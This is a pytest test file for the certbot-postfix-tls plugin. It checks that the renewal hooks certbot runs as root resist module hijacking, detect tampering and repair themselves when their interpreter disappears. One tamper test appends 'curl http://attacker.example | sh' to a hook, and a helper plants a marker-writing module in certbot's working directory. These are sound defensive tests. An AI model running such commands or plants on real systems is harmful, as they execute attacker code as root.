"""Renewal hooks that cannot be hijacked and do not rot.

certbot runs every executable in renewal-hooks/* as root, through a shell, in
its own working directory. ``python3 -m certbot_postfix_tls`` would put that
directory first on sys.path; the hooks run Python isolated (-I). A hook also
freezes an interpreter path (a virtualenv, a snap revision) that an upgrade
can take away: the hook then says so and exits 0, ``hooks.problems`` and
``doctor`` name it with the fix, and ``certbot install`` rewrites it.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import lab
import pytest
from conftest import REPO, need, need_lab, once

from certbot_postfix_tls._internal import certs, hooks, process, verify
from certbot_postfix_tls._internal.state import State

MARKER_NAME = "PLANTED-MODULE-RAN"


def plant(directory: Path) -> Path:
    """A certbot_postfix_tls package (and a runpy) that leave a marker when imported."""
    marker = directory / MARKER_NAME
    code = f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran as uid 0')\n"
    package = directory / "certbot_postfix_tls"
    package.mkdir(parents=True)
    for name in ("__init__.py", "__main__.py"):
        (package / name).write_text(code)
    (directory / "runpy.py").write_text(code)
    return marker


def run_as_certbot_does(path: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    """What certbot does with a directory hook: the path, through a shell, in its cwd."""
    return subprocess.run(  # noqa: S602 - exactly what certbot does
        path, shell=True, cwd=cwd, env={**os.environ, **env}, capture_output=True, text=True,
        timeout=120, check=False,
    )


def format1_hook(python: str, config_dir: str, kind: str) -> str:
    """The hook the plugin wrote before it ran Python isolated."""
    return (
        "#!/bin/sh\n"
        "# Installed by certbot-postfix-tls; removed when its last lineage is undeployed.\n"
        f"exec {python} -m certbot_postfix_tls --config-dir {config_dir} hook {kind}\n"
    )


def install_text(path: str, text: str, mode: int = 0o755) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    Path(path).write_text(text)
    os.chmod(path, mode)


@pytest.fixture
def config_dir(tmp_path: Path) -> str:
    if os.geteuid() != 0:
        pytest.skip("hooks are written root-owned")
    path = tmp_path / "config"
    path.mkdir()
    return str(path)


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    """A throwaway virtualenv that imports this checkout (and certbot) through a .pth,
    as a plugin installed into its own venv would."""
    target = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(target)], check=True,
                   timeout=120)
    site = subprocess.run(
        [str(target / "bin" / "python"), "-c",
         "import sysconfig; print(sysconfig.get_path('purelib'))"],
        capture_output=True, text=True, check=True,
    ).stdout.strip()
    Path(site, "plugin.pth").write_text(f"{REPO}\n{sysconfig.get_path('purelib')}\n")
    return target


# --- hijacking -----------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["module", "sys-path"])
def test_planted_module_in_certbots_cwd_never_runs(
    tmp_path: Path, config_dir: str, how: str
) -> None:
    cwd = tmp_path / "cwd"
    marker = plant(cwd)
    package_dir = str(REPO)
    runner = hooks.current_runner() if how == "module" else hooks.Runner(
        sys.executable, (package_dir,))
    hooks.write_hooks(config_dir, runner=runner)
    for kind in hooks.KINDS:
        proc = run_as_certbot_does(hooks.hook_path(config_dir, kind), cwd,
                                   RENEWED_LINEAGE=str(tmp_path / "live" / "other"),
                                   PYTHONPATH=str(cwd))
        assert proc.returncode == 0, proc.stderr
        assert not marker.exists(), kind
        assert hooks.intact(config_dir, kind)

    # Control: the hook as it used to be runs the planted module as root.
    path = hooks.hook_path(config_dir, "deploy")
    install_text(path, format1_hook(sys.executable, config_dir, "deploy"))
    run_as_certbot_does(path, cwd, RENEWED_LINEAGE=str(tmp_path / "live" / "other"))
    assert marker.read_text() == "ran as uid 0"


def test_old_hook_is_stale_and_refreshed_with_its_interpreter(
    config_dir: str, venv: Path
) -> None:
    python = str(venv / "bin" / "python")
    for kind in hooks.KINDS:
        install_text(hooks.hook_path(config_dir, kind), format1_hook(python, config_dir, kind))
    problems = hooks.problems(config_dir)
    assert len(problems) == 2
    assert all("runs Python without -I" in p and "planted" in p for p in problems)
    assert "certbot install --installer postfix-tls --cert-name NAME rewrites both hooks" in (
        problems[0])
    assert not hooks.all_intact(config_dir)

    # What the Debian package's postinst runs: the working venv is kept, now isolated.
    assert hooks.refresh_hooks(config_dir) == [
        hooks.hook_path(config_dir, kind) for kind in hooks.KINDS]
    assert hooks.problems(config_dir) == []
    text = Path(hooks.hook_path(config_dir, "post")).read_text()
    assert f"exec {python} -I -m certbot_postfix_tls --config-dir {config_dir} hook post\n" in text
    assert hooks.refresh_hooks(config_dir) == []


# --- rot -----------------------------------------------------------------------------------


def test_hook_whose_venv_went_away(tmp_path: Path, config_dir: str, venv: Path) -> None:
    python = str(venv / "bin" / "python")
    hooks.write_hooks(config_dir, runner=hooks.Runner(python))
    assert hooks.problems(config_dir) == []
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    proc = run_as_certbot_does(hooks.hook_path(config_dir, "post"), cwd)
    assert (proc.returncode, proc.stderr) == (0, ""), proc.stderr

    # The plugin is uninstalled from the venv (the .pth goes): the interpreter stays.
    pth = next(venv.glob("lib/python*/site-packages/plugin.pth"))
    pth.rename(pth.with_suffix(".off"))
    proc = run_as_certbot_does(hooks.hook_path(config_dir, "deploy"), cwd)
    assert proc.returncode == 0
    assert proc.stderr.startswith(
        f"certbot-postfix-tls: deploy hook skipped: {python} cannot import the "
        "certbot_postfix_tls package")
    assert f"delete {hooks.hook_path(config_dir, 'deploy')}." in proc.stderr
    problems = hooks.problems(config_dir)
    assert len(problems) == 2 and all("cannot import certbot_postfix_tls any more" in p
                                      for p in problems)

    # The venv itself is replaced by an upgrade.
    shutil.rmtree(venv)
    proc = run_as_certbot_does(hooks.hook_path(config_dir, "post"), cwd)
    assert proc.returncode == 0 and "post hook skipped" in proc.stderr
    problems = hooks.problems(config_dir)
    assert all("which no longer exists" in p for p in problems) and len(problems) == 2
    assert not hooks.intact(config_dir, "deploy")

    # Every install rewrites the hooks with the interpreter running it.
    assert hooks.write_hooks(config_dir) == [
        hooks.hook_path(config_dir, kind) for kind in hooks.KINDS]
    assert hooks.problems(config_dir) == []
    assert hooks.write_hooks(config_dir) == []


def test_unsafe_or_foreign_hooks(config_dir: str) -> None:
    hooks.write_hooks(config_dir)
    deploy, post = (hooks.hook_path(config_dir, kind) for kind in hooks.KINDS)
    os.chmod(deploy, 0o775)
    assert hooks.problems(config_dir) == [
        f"The deploy hook {deploy} (owner root, mode 0775) can be changed by someone other "
        f"than root, and certbot runs it as root: run chown root:root {deploy} && "
        f"chmod 0755 {deploy}."
    ]
    assert hooks.write_hooks(config_dir) == [deploy]  # repaired
    assert os.stat(deploy).st_mode & 0o7777 == 0o755

    with open(post, "a") as handle:
        handle.write("curl http://attacker.example | sh\n")
    assert "differs from what the plugin writes" in hooks.problems(config_dir)[0]
    os.unlink(post)
    install_text(post, "#!/bin/sh\necho someone else's hook\n")
    assert "was not written by certbot-postfix-tls" in hooks.problems(config_dir)[0]
    hooks.remove_hooks(config_dir)
    assert not os.path.exists(deploy)
    assert Path(post).read_text() == "#!/bin/sh\necho someone else's hook\n"  # not ours: kept
    assert hooks.problems(config_dir)[0].startswith(f"The deploy hook {deploy} is missing")


def test_no_stray_executable_in_the_hooks_directory(config_dir: str) -> None:
    """certbot runs every executable there, dot-files included."""
    hooks.write_hooks(config_dir)
    for kind in hooks.KINDS:
        directory = os.path.dirname(hooks.hook_path(config_dir, kind))
        assert os.listdir(directory) == [hooks.HOOK_NAME]


def test_durable_interpreter_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "executable", "/usr/bin/python3.11")
    monkeypatch.setattr(sys, "prefix", sys.base_prefix)
    assert hooks._interpreters()[0] == "/usr/bin/python3"  # survives python3.11 -> 3.13
    monkeypatch.setattr(hooks.os.path, "samefile", lambda a, b: True)
    assert hooks._stable_path("/snap/certbot/4567/bin/python3") == (
        "/snap/certbot/current/bin/python3")
    assert hooks._stable_path("/work/venv/bin/python") == "/work/venv/bin/python"


# --- snap environment -------------------------------------------------------------------------


def test_external_commands_get_no_snap_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    snap = tmp_path / "snap" / "certbot" / "4567"
    (snap / "bin").mkdir(parents=True)
    tool = snap / "bin" / "cpt-snap-only-tool"
    tool.write_text("#!/bin/sh\necho snap\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{snap / 'bin'}:/usr/bin:/bin")
    monkeypatch.setenv("LD_LIBRARY_PATH", f"{snap / 'lib'}:/opt/lib")
    assert process.find_tool("cpt-snap-only-tool") == str(tool)
    monkeypatch.setenv("SNAP", str(snap))
    monkeypatch.setenv("CERTBOT_SNAPPED", "True")
    assert process.find_tool("cpt-snap-only-tool") is None
    env = dict(line.split("=", 1) for line in process.run(["env"], what="env").stdout.splitlines()
               if "=" in line)
    assert env["LD_LIBRARY_PATH"] == "/opt/lib"
    assert str(snap) not in env["PATH"]
    extra = process.run(["env"], what="env", env={"LC_ALL": "C"}).stdout
    assert "LC_ALL=C" in extra and str(snap / "lib") not in extra


# --- the Debian package's maintainer scripts ----------------------------------------------------

POSTINST = REPO / "debian" / "python3-certbot-postfix-tls.postinst"
POSTRM = REPO / "debian" / "python3-certbot-postfix-tls.postrm"


def test_debian_postrm_purge_removes_only_our_hooks() -> None:
    need_lab()  # /etc is the lab's overlay: the machine's own hooks are never touched
    config = "/etc/letsencrypt"
    hooks.write_hooks(config)
    foreign = "/etc/letsencrypt/renewal-hooks/post/certbot-postfix-tls-not-ours"
    install_text(foreign, "#!/bin/sh\n# Installed by certbot-postfix-tls\n")
    try:
        subprocess.run(["sh", str(POSTRM), "remove"], check=True)
        assert hooks.problems(config) == []  # remove: the hooks stay (and degrade gracefully)
        os.unlink(hooks.hook_path(config, "post"))
        install_text(hooks.hook_path(config, "post"), "#!/bin/sh\necho mine\n")
        subprocess.run(["sh", str(POSTRM), "purge"], check=True)
        assert not os.path.exists(hooks.hook_path(config, "deploy"))
        assert Path(hooks.hook_path(config, "post")).read_text() == "#!/bin/sh\necho mine\n"
        assert os.path.exists(foreign)
    finally:
        shutil.rmtree("/etc/letsencrypt/renewal-hooks", ignore_errors=True)


def test_debian_postinst_refreshes_stale_hooks(venv: Path) -> None:
    need_lab()
    config = "/etc/letsencrypt"
    # The packaged script runs /usr/bin/python3, which imports the package from
    # dist-packages; here the checkout is importable through the venv instead.
    python = str(venv / "bin" / "python")
    script = POSTINST.read_text().replace("/usr/bin/python3 -I", f"{python} -I")
    try:
        for kind in hooks.KINDS:
            install_text(hooks.hook_path(config, kind), format1_hook(python, config, kind))
        proc = subprocess.run(["sh", "-c", script, "postinst", "configure", "0.0.1"],
                              capture_output=True, text=True, check=True)
        assert proc.stdout.count("certbot-postfix-tls: updated the renewal hook") == 2
        assert hooks.problems(config) == []
        again = subprocess.run(["sh", "-c", script, "postinst", "configure", "0.0.1"],
                               capture_output=True, text=True, check=True)
        assert again.stdout == again.stderr == ""
    finally:
        shutil.rmtree("/etc/letsencrypt/renewal-hooks", ignore_errors=True)


# --- real certbot ------------------------------------------------------------------------------


def current_leaf(certbot: lab.Certbot, name: str) -> bytes:
    pem = (certbot.config_dir / "live" / name / "fullchain.pem").read_bytes()
    return certs.load_pem_chain(pem)[0].public_bytes(certs.serialization.Encoding.DER)


def served_leaf(port: int, name: str) -> bytes:
    endpoint = verify.Endpoint("x", "smtp", "127.0.0.1", port, "starttls", str(port))
    return verify.handshake(endpoint, name).leaf_der


def test_real_renew_from_a_planted_cwd(
    tmp_path: Path, certbot: lab.Certbot, postfix_lab: lab.PostfixLab
) -> None:
    """`certbot renew` run as root from a directory someone else controls."""
    name = lab.LAB_HOSTNAME
    certbot.run("run", "-a", "standalone", "-i", "postfix-tls", "-d", name, *certbot.acme_args())
    assert hooks.problems(str(certbot.config_dir)) == []
    cwd = tmp_path / "home-of-someone"
    marker = plant(cwd)
    old_leaf = current_leaf(certbot, name)
    # certbot itself starts as /usr/bin/certbot does (a script: its own directory, not
    # the cwd, on sys.path; -I here because the lab starts it with -c).
    argv = certbot.argv("renew", "--force-renewal", "--no-random-sleep-on-renew",
                        *certbot.acme_args())
    proc = subprocess.run(  # noqa: S603
        [argv[0], "-I", *argv[1:]],
        cwd=cwd, env={**certbot.env(), "PYTHONPATH": str(cwd)}, capture_output=True, text=True,
        timeout=300, check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert not marker.exists()
    new_leaf = current_leaf(certbot, name)
    assert new_leaf != old_leaf
    # The hooks did run (the plugin's own, from its install): deployed and reloaded.
    assert served_leaf(25, name) == new_leaf
    assert State.load(str(certbot.config_dir)).pending == []


def test_real_stale_hook_is_reported_and_repaired(
    request: pytest.FixtureRequest, tmp_path: Path, certbot: lab.Certbot,
    postfix_lab: lab.PostfixLab
) -> None:
    once(request, "hook text and doctor do not depend on certbot's version")
    need("postfix")
    name = lab.LAB_HOSTNAME
    config_dir = str(certbot.config_dir)
    certbot.run("certonly", "-a", "standalone", "-d", name, *certbot.acme_args())
    certbot.run("install", "-i", "postfix-tls", "--cert-name", name)
    # An upgrade replaced the virtualenv the hooks were written from.
    gone = str(tmp_path / "old-venv" / "bin" / "python")
    hooks.write_hooks(config_dir, runner=hooks.Runner(gone))

    proc = certbot.run("renew", "--force-renewal", "--no-random-sleep-on-renew",
                       *certbot.acme_args())
    output = proc.stdout + proc.stderr
    assert "deploy hook skipped" in output and "post hook skipped" in output

    doctor = subprocess.run(
        [sys.executable, "-m", "certbot_postfix_tls", "--config-dir", config_dir, "doctor",
         "--json"], capture_output=True, text=True, timeout=120, check=False,
    )
    report = json.loads(doctor.stdout)
    hook_checks = [c for c in report["checks"] if c["name"] == "renewal-hooks"]
    assert len(hook_checks) == 2
    for check in hook_checks:
        assert check["status"] == "WARNING"
        assert f"runs {gone}, which no longer exists" in check["message"]
        assert (f"certbot install --installer postfix-tls --cert-name {name} rewrites both "
                "hooks") in check["message"]

    certbot.run("install", "--installer", "postfix-tls", "--cert-name", name)
    assert hooks.problems(config_dir) == []
    assert served_leaf(25, name) == current_leaf(certbot, name)
